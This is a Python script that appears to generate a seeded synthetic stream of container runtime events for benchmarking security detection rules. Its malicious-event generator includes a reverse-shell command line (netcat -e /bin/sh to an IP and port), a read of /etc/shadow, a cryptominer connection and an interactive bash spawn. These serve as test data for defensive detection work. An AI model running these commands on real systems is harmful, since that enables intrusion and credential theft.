"""A realistic recorded mix of runtime events for the rules benchmark.

Mostly benign activity from many processes in a dozen containers and on the host (web servers opening static
files and libraries, workers connecting to databases, health-check execs, log writes), plus a few malicious
events (shadow reads, reverse shells, miner connections, drift). Deterministic for a given seed.

    python bench/rules_eventmix.py --count 200000 --out /tmp/mix.jsonl   # record a mix to a file
"""

from __future__ import annotations

import argparse
import random
import sys
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "src"))

from containerguard.model import Event
from containerguard.runtime.events import write_event

CONTAINERS = [
    ("3f2a9c0e1b7d", "web-1", "nginx", "1.25", ["nginx"], "/usr/sbin/nginx"),
    ("7c1d2e3f4a5b", "web-2", "nginx", "1.25", ["nginx"], "/usr/sbin/nginx"),
    ("a1b2c3d4e5f6", "api", "registry.local/shop/api", "2.3.1", ["python3", "gunicorn"], "/usr/local/bin/python3.12"),
    ("b2c3d4e5f6a7", "worker", "registry.local/shop/worker", "2.3.1", ["python3"], "/usr/local/bin/python3.12"),
    ("c3d4e5f6a7b8", "db", "postgres", "16", ["postgres"], "/usr/lib/postgresql/16/bin/postgres"),
    ("d4e5f6a7b8c9", "cache", "redis", "7.2", ["redis-server"], "/usr/local/bin/redis-server"),
    ("e5f6a7b8c9d0", "node-app", "registry.local/shop/front", "1.0.0", ["node"], "/usr/local/bin/node"),
    ("f6a7b8c9d0e1", "java-svc", "eclipse-temurin", "21-jre", ["java"], "/opt/java/openjdk/bin/java"),
    ("0a1b2c3d4e5f", "queue", "rabbitmq", "3.13", ["beam.smp"], "/usr/lib/erlang/erts-14/bin/beam.smp"),
    ("1b2c3d4e5f6a", "proxy", "envoyproxy/envoy", "v1.30", ["envoy"], "/usr/local/bin/envoy"),
    ("2c3d4e5f6a7b", "cron", "debian", "bookworm", ["cron"], "/usr/sbin/cron"),
    ("host", "", "", "", ["systemd", "containerd", "dockerd", "kubelet", "sshd"], "/usr/bin/dockerd"),
]
BENIGN_FILES = ["/etc/ld.so.cache", "/lib/x86_64-linux-gnu/libc.so.6", "/usr/share/nginx/html/index.html",
                "/etc/hosts", "/etc/resolv.conf", "/etc/nsswitch.conf", "/proc/self/status", "/tmp/cache/a1",
                "/app/static/main.js", "/var/lib/postgresql/data/base/16384/2619", "/etc/passwd",
                "/usr/lib/python3.12/json/__init__.py", "/app/app.py", "/sys/fs/cgroup/memory.max",
                "/data/dump.rdb", "/etc/localtime", "/usr/share/zoneinfo/UTC"]
WRITE_FILES = ["/var/log/nginx/access.log", "/tmp/upload-123", "/var/lib/postgresql/data/pg_wal/0001",
               "/app/logs/app.log", "/data/appendonly.aof", "/tmp/cache/a1"]
PEERS = [("10.0.0.12", 5432), ("10.0.0.13", 6379), ("10.0.0.20", 443), ("10.0.0.14", 5672), ("172.17.0.3", 8080),
         ("127.0.0.1", 9000), ("10.96.0.10", 53)]
HEALTH = [("sh", "/bin/sh", "sh -c curl -fsS localhost/health"), ("curl", "/usr/bin/curl", "curl -fsS localhost/health"),
          ("pg_isready", "/usr/lib/postgresql/16/bin/pg_isready", "pg_isready -U postgres")]


def _base(rng: random.Random, c: tuple[Any, ...], pid: int) -> dict[str, Any]:
    cid, name, repo, tag, procs, exe = c
    pname = rng.choice(procs)
    f: dict[str, Any] = {
        "proc.pid": pid, "proc.vpid": pid % 200 + 1, "proc.ppid": pid - 1, "proc.name": pname, "proc.exepath": exe,
        "proc.cmdline": f"{pname} --config /etc/{pname}.conf", "proc.args": f"--config /etc/{pname}.conf",
        "proc.cwd": "/", "proc.tty": 0, "proc.pname": "containerd-shim" if pid % 7 == 0 else pname,
        "proc.pcmdline": pname, "proc.anames": [pname, "containerd-shim", "systemd"],
        "proc.apids": [pid - 1, 900, 1], "proc.is_exe_upper_layer": False, "user.uid": 0 if pid % 3 else 1000,
        "user.name": "root" if pid % 3 else "app", "user.loginuid": -1, "container.id": cid,
        # what the sensor (sensor/fields.event_fields) and the process table (process._fields) set on every event
        "evt.dir": "<", "evt.rawres": 0, "evt.res": "SUCCESS", "evt.failed": False, "thread.tid": pid,
        "proc.exe": exe, "proc.exe_written": False, "proc.exe_drift": None, "proc.is_exe_from_memfd": False,
        "proc.pexepath": "/usr/bin/containerd-shim-runc-v2" if pid % 7 == 0 else exe,
        "proc.exe_resolved": exe, "proc.pexe_resolved": "/usr/bin/containerd-shim-runc-v2" if pid % 7 == 0 else exe,
    }
    if cid != "host":
        f.update({"container.name": name, "container.image.repository": repo, "container.image.tag": tag,
                  "container.privileged": False})
    return f


def benign(rng: random.Random, t: int) -> Event:
    c = rng.choice(CONTAINERS)
    pid = rng.randrange(1000, 60000)
    f = _base(rng, c, pid)
    r = rng.random()
    if r < 0.55:
        etype = rng.choice(["openat", "openat", "openat", "open", "openat2"])
        write = rng.random() < 0.2
        f.update({"evt.type": etype, "evt.dir": "<", "fd.name": rng.choice(WRITE_FILES if write else BENIGN_FILES),
                  "fd.typechar": "f", "evt.is_open_read": not write, "evt.is_open_write": write,
                  "evt.is_open_create": write, "evt.is_open_exec": False,
                  "evt.arg.flags": "O_WRONLY|O_APPEND|O_CREAT" if write else "O_RDONLY|O_CLOEXEC", "evt.res": "SUCCESS"})
    elif r < 0.70:
        etype = "connect"
        ip, port = rng.choice(PEERS)
        f.update({"evt.type": etype, "fd.sip": ip, "fd.sport": port, "fd.cip": "172.17.0.2",
                  "fd.cport": rng.randrange(32768, 60999), "fd.typechar": "4", "fd.sockfamily": "ip", "fd.l4proto": "tcp"})
    elif r < 0.78:
        etype = "execve"
        n, exe, cmd = rng.choice(HEALTH)
        f.update({"evt.type": etype, "proc.name": n, "proc.exepath": exe, "proc.cmdline": cmd,
                  "proc.args": cmd.split(" ", 1)[1], "proc.pname": "runc" if n == "sh" else "sh",
                  "proc.exe": exe, "proc.pexepath": "/usr/bin/runc" if n == "sh" else "/bin/sh",
                  "proc.exe_resolved": "/usr/bin/dash" if n == "sh" else exe,
                  "proc.pexe_resolved": "/usr/sbin/runc" if n == "sh" else "/usr/bin/dash"})
    elif r < 0.84:
        etype = "accept4"
        f.update({"evt.type": etype, "fd.sip": "172.17.0.2", "fd.sport": 80, "fd.cip": "10.0.0.5", "fd.cport": 51234,
                  "fd.typechar": "4", "fd.type": "ipv4", "fd.sockfamily": "ip", "fd.l4proto": "tcp",
                  "fd.is_server": True, "evt.rawres": 7})
    elif r < 0.88:
        etype = "socket"
        f.update({"evt.type": etype, "evt.args": {"domain": "AF_INET", "type": "SOCK_STREAM", "proto": 0}})
    elif r < 0.92:
        etype = rng.choice(["unlink", "unlinkat", "renameat2"])
        f.update({"evt.type": etype, "fs.path.name": "/tmp/upload-" + str(pid), "fs.path.source": "/tmp/x",
                  "fs.path.target": "/tmp/upload-" + str(pid)})
    elif r < 0.96:
        etype = "procexit"
        f.update({"evt.type": etype})
    else:
        etype = rng.choice(["setuid", "chmod", "listen", "mmap", "clone"])
        f.update({"evt.type": etype})
    return Event(etype, t, f)


def malicious(rng: random.Random, t: int) -> Event:
    c = rng.choice(CONTAINERS[:-1])
    f = _base(rng, c, rng.randrange(1000, 60000))
    kind = rng.randrange(5)
    if kind == 0:
        f.update({"evt.type": "openat", "fd.name": "/etc/shadow", "evt.is_open_read": True, "evt.is_open_write": False,
                  "evt.is_open_create": False, "evt.is_open_exec": False, "fd.typechar": "f",
                  "proc.name": "cat", "proc.cmdline": "cat /etc/shadow"})
    elif kind == 1:
        f.update({"evt.type": "execve", "proc.name": "nc", "proc.exepath": "/bin/nc", "proc.args": "-e /bin/sh 10.9.9.9 4444",
                  "proc.cmdline": "nc -e /bin/sh 10.9.9.9 4444", "proc.pname": "sh", "proc.exe": "/bin/nc",
                  "proc.pexepath": "/bin/sh", "proc.exe_resolved": "/usr/bin/nc.openbsd",
                  "proc.pexe_resolved": "/usr/bin/dash"})
    elif kind == 2:
        f.update({"evt.type": "connect", "fd.sip": "45.9.148.99", "fd.sport": 3333, "proc.name": "xmrig"})
    elif kind == 3:
        f.update({"evt.type": "execve", "proc.name": "x", "proc.exepath": "/tmp/x", "proc.is_exe_upper_layer": True,
                  "proc.cmdline": "/tmp/x", "proc.args": "", "proc.exe": "/tmp/x", "proc.exe_resolved": "/tmp/x"})
    else:
        f.update({"evt.type": "execve", "proc.name": "bash", "proc.exepath": "/bin/bash", "proc.cmdline": "bash -i",
                  "proc.args": "-i", "proc.pname": rng.choice(c[4]), "proc.exe": "/bin/bash",
                  "proc.exe_resolved": "/usr/bin/bash"})
    return Event(str(f["evt.type"]), t, f)


def generate(count: int, seed: int = 7, malicious_ratio: float = 0.002) -> list[Event]:
    rng = random.Random(seed)
    t0 = 1_732_712_345_000_000_000
    return [malicious(rng, t0 + i * 1000) if rng.random() < malicious_ratio else benign(rng, t0 + i * 1000)
            for i in range(count)]


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--count", type=int, default=100_000)
    ap.add_argument("--seed", type=int, default=7)
    ap.add_argument("--out", required=True)
    a = ap.parse_args()
    with open(a.out, "w") as fh:
        for ev in generate(a.count, a.seed):
            write_event(fh, ev)


if __name__ == "__main__":
    main()
